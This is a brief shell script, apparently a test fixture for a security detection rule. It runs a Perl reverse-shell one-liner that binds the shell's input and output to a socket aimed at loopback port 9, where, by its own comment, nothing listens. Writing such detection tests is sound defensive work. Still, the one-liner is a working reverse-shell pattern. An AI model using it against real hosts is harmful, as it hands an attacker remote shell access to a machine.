#!/bin/sh
# rule: 64b8b260-121e-4835-bc3a-01b266f2453c
# A Perl reverse shell that ends because nobody listens on the port of loopback.
set -eu
scratch=$1
perl -e 'use Socket; socket(S, PF_INET, SOCK_STREAM, 0) or exit; connect(S, sockaddr_in(9, inet_aton("127.0.0.1"))) or exit;
  open(STDIN, "<&S"); open(STDOUT, ">&S"); exec("/bin/sh");'
